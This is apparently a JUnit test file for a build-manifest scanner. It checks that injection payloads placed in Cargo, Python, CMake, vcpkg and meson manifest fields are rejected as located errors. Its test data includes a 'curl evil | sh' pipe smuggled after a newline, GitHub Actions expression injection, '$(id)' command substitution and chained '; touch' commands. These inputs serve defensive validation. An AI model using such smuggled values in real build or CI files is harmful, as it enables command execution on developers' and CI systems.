package dev.nixmigrate.core.internal.scan;

import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.nixmigrate.core.model.Diagnostic;
import dev.nixmigrate.core.model.Severity;
import java.nio.file.Path;
import java.util.stream.Stream;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Every manifest value that reaches a generated file is checked when it is read: a value the field
 * cannot hold is a located ERROR, and it does not reach the facts.
 */
class FieldValuesTest {
  @TempDir Path dir;

  /** Text that must never reach a generated file: a GitHub expression and a shell command. */
  private static final String EVIL = "${{ github.event.issue.title }}";

  private static final String CRATE = "[package]\nname = \"ok\"\nversion = \"0.1.0\"\n";
  private static final String PYPROJECT = "[project]\nname = \"ok\"\nversion = \"1.0\"\n";

  static Stream<Arguments> badValues() {
    return Stream.of(
        row(
            "toolchain channel with a newline",
            "rust-toolchain.toml",
            2,
            "[toolchain]\nchannel = \"stable\\n    - run: curl evil | sh\"\n",
            "Cargo.toml",
            CRATE),
        row(
            "legacy toolchain file naming an expression",
            "rust-toolchain",
            1,
            EVIL + "\n",
            "Cargo.toml",
            CRATE),
        row(
            "toolchain component with a space",
            "rust-toolchain.toml",
            3,
            "[toolchain]\nchannel = \"1.80\"\ncomponents = [\"rust-src x\"]\n",
            "Cargo.toml",
            CRATE),
        row(
            "rust-version carrying commands",
            "Cargo.toml",
            4,
            CRATE + "rust-version = \"1.74 check; touch M; cargo +1.74\"\n"),
        row(
            "crate name an expression",
            "Cargo.toml",
            2,
            "[package]\nname = \"" + EVIL + "\"\nversion = \"0.1.0\"\n"),
        row(
            "workspace rust-version with a newline",
            "Cargo.toml",
            4,
            "[workspace]\nmembers = []\n[workspace.package]\nrust-version = \"1.80\\nx\"\n"),
        row(
            "crate version not SemVer",
            "Cargo.toml",
            3,
            "[package]\nname = \"a\"\nversion = \"1.0 x\"\n"),
        row("edition not a year", "Cargo.toml", 4, CRATE + "edition = \"2021\\n\"\n"),
        row("bin name with a quote", "Cargo.toml", 5, CRATE + "[[bin]]\nname = \"a'b\"\n"),
        row("feature name with $", "Cargo.toml", 5, CRATE + "[features]\n\"x$(id)\" = []\n"),
        row("Python name with a space", "pyproject.toml", 2, "[project]\nname = \"a b\"\n"),
        row(
            "Python version with a newline",
            "pyproject.toml",
            3,
            "[project]\nname = \"a\"\nversion = \"1.0\\nx\"\n"),
        row(
            "requires-python with a command",
            "pyproject.toml",
            4,
            PYPROJECT + "requires-python = \">=3.8; touch x\"\n"),
        row(
            "extra named with an expression",
            "pyproject.toml",
            5,
            PYPROJECT + "[project.optional-dependencies]\n\"" + EVIL + "\" = []\n"),
        row(
            "dependency group named with a newline",
            "pyproject.toml",
            5,
            PYPROJECT + "[dependency-groups]\n\"a\\nb\" = []\n"),
        row(
            "Poetry name with a quote",
            "pyproject.toml",
            2,
            "[tool.poetry]\nname = \"a\\\"b\"\nversion = \"1.0\"\n"),
        row(
            "setup.cfg python_requires",
            "setup.cfg",
            4,
            "[metadata]\nname = a\n[options]\npython_requires = >=3.8 && id\n"),
        row("setup.py name", "setup.py", 1, "setup(name=\"a$(id)\", version=\"1.0\")\n"),
        row("CMake project name with a newline", "CMakeLists.txt", 1, "project(\"a\nb\")\n"),
        row(
            "CMake project name an expression",
            "CMakeLists.txt",
            2,
            "# x\nproject(\"" + EVIL + "\" LANGUAGES C)\n"),
        row(
            "CMake project version with a quote",
            "CMakeLists.txt",
            1,
            "project(a VERSION \"1.0\\\"x\")\n"),
        row(
            "FetchContent name with a newline",
            "CMakeLists.txt",
            2,
            "project(a)\nFetchContent_Declare(\"x\n  inputs.evil.url = y;\" GIT_REPOSITORY"
                + " https://example.org/x.git)\n"),
        row(
            "find_package name with a space",
            "CMakeLists.txt",
            2,
            "project(a)\nfind_package(\"Foo Bar\" REQUIRED)\n"),
        row(
            "pkg-config module with a quote",
            "CMakeLists.txt",
            2,
            "project(a)\npkg_check_modules(X REQUIRED \"gtk'3\")\n"),
        row(
            "vcpkg dependency with a space",
            "vcpkg.json",
            1,
            "{\"dependencies\": [\"zlib x\"]}",
            "CMakeLists.txt",
            "project(a)\n"),
        row(
            "preset name with $",
            "CMakePresets.json",
            2,
            "{\"version\": 3,\n \"configurePresets\": [{\"name\": \"a$b\"}]}",
            "CMakeLists.txt",
            "project(a)\n"),
        row(
            "meson project name with a space",
            "meson.build",
            2,
            "# a\nproject('a b', 'c')\n",
            "a.c",
            "int main(void) { return 0; }\n"));
  }

  private static Arguments row(String what, String file, int line, String text, String... more) {
    String[] all = new String[more.length + 2];
    all[0] = file;
    all[1] = text;
    System.arraycopy(more, 0, all, 2, more.length);
    return Arguments.of(what, file, line, all);
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("badValues")
  void refusedWhereItStands(String what, String file, int line, String[] files) {
    Scanned s = Scanned.of(dir, files);
    Diagnostic d = s.only(Severity.ERROR);
    assertTrue(d.file().equals(file) && d.line() == line, d.toString());
    assertTrue(d.message().contains("is not valid"), d.message());
    String json = s.projectsJson();
    assertFalse(json.contains("github.event"), json);
    assertFalse(json.contains("touch"), json);
    assertFalse(json.contains("evil"), json);
  }

  /** A version the reader cannot resolve (read from a header at configure time) is unknown. */
  @org.junit.jupiter.api.Test
  void aCMakeVersionFromAnUnresolvedVariableIsUnknownNotWrong() {
    Scanned s =
        Scanned.of(
            dir,
            "CMakeLists.txt",
            "cmake_minimum_required(VERSION 3.10)\n"
                + "project(x VERSION ${VERSION_STRING} LANGUAGES CXX)\nadd_library(x x.cc)\n",
            "x.cc",
            "int x;\n");
    assertTrue(
        s.facts().diagnostics().stream().noneMatch(d -> d.severity() == Severity.ERROR),
        s.facts().diagnostics().toString());
    assertTrue(s.facts().projects().get(0).cmake().orElseThrow().version() == null);
  }
}
